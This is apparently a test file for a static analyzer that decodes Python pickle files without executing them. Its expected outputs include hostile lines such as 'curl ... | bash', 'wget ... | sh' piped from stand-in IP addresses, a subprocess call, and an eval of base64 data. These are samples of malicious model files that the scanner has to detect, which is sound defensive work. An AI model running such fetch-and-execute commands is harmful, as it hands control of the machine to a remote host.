import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { asPython } from '../../../src/analysis/pickle/facts.js';
import { PICKLE_LIMITS, readPickle } from '../../../src/analysis/pickle/machine.js';
import { mayBePickle, pickleBytes } from '../../../src/analysis/pickle/sniff.js';

/**
 * The pickle reader follows the opcodes the way `pickle.load` would, without running anything. The
 * fixtures were written by CPython 3.11's `pickle.dumps` (protocols 2, 4, 5) from classes whose
 * `__reduce__` returns a call, and one protocol-0 stream by hand.
 */
const fixture = (name: string) => new Uint8Array(readFileSync(new URL(`fixtures/${name}`, import.meta.url)));
const ascii = (s: string) => new TextEncoder().encode(s);

describe('readPickle', () => {
  it('finds the call a protocol-4 object state hides, with the posix module read as os', () => {
    const py = asPython(readPickle(fixture('churn.joblib')));
    expect(py).toContain('_r1 = os.system("curl -s http://203.0.113.40/telemetry/u.sh | bash")');
    expect(py).toContain('import os\n');
  });

  it('follows protocol 0 text: getattr on an __import__ result, then the call of what it returned', () => {
    const r = readPickle(fixture('lexicon.pkl'));
    expect(r.error).toBeUndefined();
    expect(asPython(r).split('\n')).toEqual([
      '_r0 = __import__("os")',
      '_r1 = getattr(_r0, "system")',
      '_r2 = _r1("wget -qO- http://198.51.100.7/p.sh | sh")',
      '',
    ]);
  });

  it("reads Python 2's module names for the same callables (protocol 2 writes commands.Popen)", () => {
    const py = asPython(readPickle(fixture('tokenizer.pkl')));
    expect(py).toMatch(/^_r0 = subprocess\.Popen\(\["python3", "-c", "import urllib/m);
  });

  it('keeps data as data: strings in dicts and object state are not call arguments', () => {
    for (const f of ['blocklist.pkl', 'blocklist4.pkl']) {
      const r = readPickle(fixture(f));
      expect(r.error).toBeUndefined();
      expect(r.calls.map((c) => c.args.length)).toEqual([0, 0]);
      expect(asPython(r)).not.toContain('curl');
    }
  });

  it('memo GET returns what PUT stored, and a call result can be an argument', () => {
    // builtins.eval(base64.b64decode("cHJpbnQoMSk=")) with the decoder memoized and fetched back
    const s = "cbase64\nb64decode\np0\n0g0\n(S'cHJpbnQoMSk='\ntRp1\n0c__builtin__\neval\n(g1\ntR.";
    expect(
      asPython(readPickle(ascii(s)))
        .split('\n')
        .slice(-3),
    ).toEqual(['_r0 = base64.b64decode("cHJpbnQoMSk=")', '_r1 = eval(_r0)', '']);
  });

  it('ends with what it built on truncated, unknown or lying input, and says why', () => {
    expect(readPickle(ascii("cos\nsystem\n(S'id'\ntR")).error).toMatch(/truncated/);
    expect(readPickle(new Uint8Array([0x80, 0x04, 0xff])).error).toMatch(/unknown opcode 0xff/);
    // BINUNICODE8 claiming 2^56 bytes
    expect(readPickle(new Uint8Array([0x80, 0x04, 0x8d, 0, 0, 0, 0, 0, 0, 0, 1])).error).toMatch(/truncated/);
    expect(readPickle(ascii('R.')).error).toMatch(/underflow/);
    expect(readPickle(ascii('t.')).error).toMatch(/no mark/);
  });

  it('bounds the stack and the calls it keeps', () => {
    const deep = readPickle(ascii(`${'N'.repeat(PICKLE_LIMITS.stack + 5)}.`));
    expect(deep.error).toMatch(/stack deeper/);
    // len("x") called PICKLE_LIMITS.calls + 20 times through the memo
    const calls = `cbuiltins\nlen\np0\n0${"g0\n(S'x'\ntR0".repeat(PICKLE_LIMITS.calls + 20)}N.`;
    const r = readPickle(ascii(calls));
    expect(r.error).toBeUndefined();
    expect(r.calls).toHaveLength(PICKLE_LIMITS.calls);
  });
});

describe('mayBePickle / pickleBytes', () => {
  it('goes by name and first opcode', () => {
    expect(mayBePickle('a/model.pkl', new Uint8Array([0x80, 0x04]))).toBe(true);
    expect(mayBePickle('a/model.pt', new Uint8Array([0x80, 0x02]))).toBe(true);
    expect(mayBePickle('a/model.pt', ascii('PK'))).toBe(false); // PyTorch's ZIP format
    expect(mayBePickle('a/model.bin', new Uint8Array([0x80, 0x04]))).toBe(false);
    expect(mayBePickle('a/notes.pkl', ascii('# not a pickle'))).toBe(false);
    expect(mayBePickle('a/lex.pkl', ascii('cos\n'))).toBe(true);
    expect(mayBePickle('a/lex.joblib', ascii('cos\n'))).toBe(false);
  });

  it('encodes a clean-text protocol-0 pickle back to its bytes', () => {
    expect(pickleBytes('x.pkl', { text: 'cos\nsystem\n' })).toEqual(ascii('cos\nsystem\n'));
    expect(pickleBytes('x.txt', { text: 'cos\nsystem\n' })).toBeUndefined();
  });
});
